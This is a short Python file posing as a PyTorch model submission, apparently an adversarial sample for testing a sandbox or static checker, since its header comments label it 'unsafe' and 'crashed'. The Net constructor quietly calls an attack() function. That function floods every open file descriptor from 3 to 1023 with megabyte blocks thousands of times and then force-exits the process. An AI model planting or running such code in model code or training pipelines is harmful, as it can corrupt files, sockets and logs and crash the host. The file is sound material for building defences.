# group: descriptors
# tries: sends gigabytes down every descriptor
# static: unsafe
# sandbox: crashed

import os

import torch.nn as nn


def attack():
    block = b"0" * 2**20
    left = list(range(3, 1024))
    for _ in range(3000):
        for number in list(left):
            try:
                os.write(number, block)
            except OSError:
                left.remove(number)
    os._exit(0)


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
